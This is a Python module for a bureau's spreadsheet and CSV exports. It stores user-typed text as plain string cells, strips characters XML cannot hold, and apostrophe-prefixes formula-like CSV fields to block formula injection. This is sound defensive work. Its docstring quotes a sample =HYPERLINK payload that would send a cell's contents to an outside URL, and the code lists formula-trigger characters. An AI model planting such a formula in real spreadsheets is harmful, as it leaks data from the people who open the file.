"""The one way a value becomes a spreadsheet cell or a CSV field (every export uses it).

Text typed by users (an enterprise's name, a 推荐意见, a project name) must never become a formula in the
bureau's Excel: ``=HYPERLINK("http://…?leak="&A1,"点此核验")`` in a company name would be live in the public
认定名单. And characters XML 1.0 forbids (most C0 controls) make openpyxl refuse the whole file.

* XLSX (openpyxl): ``set_cell``/``append_row`` keep the text exactly and store it as a *string* cell, so a
  spreadsheet shows it and never evaluates it; numbers and dates stay numbers and dates.
* CSV has no cell types: ``csv_field`` prefixes text that a spreadsheet would evaluate with an apostrophe
  (the OWASP recommendation), so Excel and WPS open it as text.
"""

from __future__ import annotations

import datetime as dt
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

# C0 controls other than tab, LF, CR, plus the two non-characters: XML 1.0 cannot hold them.
ILLEGAL_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
# What makes Excel/WPS/LibreOffice treat a typed field as a formula or a DDE command, full-width forms included.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_PLAIN = (bool, int, float, Decimal, dt.date, dt.datetime, dt.time)


def clean_text(value: Any) -> Any:
    """The value with characters a spreadsheet file cannot hold removed; non-text values as they are."""
    if value is None or isinstance(value, _PLAIN):
        return value
    return ILLEGAL_XML.sub("", str(value))


def is_formula_like(text: str) -> bool:
    return bool(text) and text.startswith(FORMULA_TRIGGERS)


def csv_field(value: Any) -> Any:
    value = clean_text(value)
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def set_cell(cell, value: Any):
    """Put ``value`` in an openpyxl cell as data: text stays text even when it looks like a formula."""
    cell.value = clean_text(value)
    if isinstance(cell.value, str) and cell.data_type == "f":
        cell.data_type = "s"
    return cell


def append_row(sheet, values: Iterable[Any]) -> None:
    """``sheet.append`` for data rows: every text cell is stored as text (see ``set_cell``)."""
    sheet.append([clean_text(value) for value in values])
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str) and cell.data_type == "f":
            cell.data_type = "s"
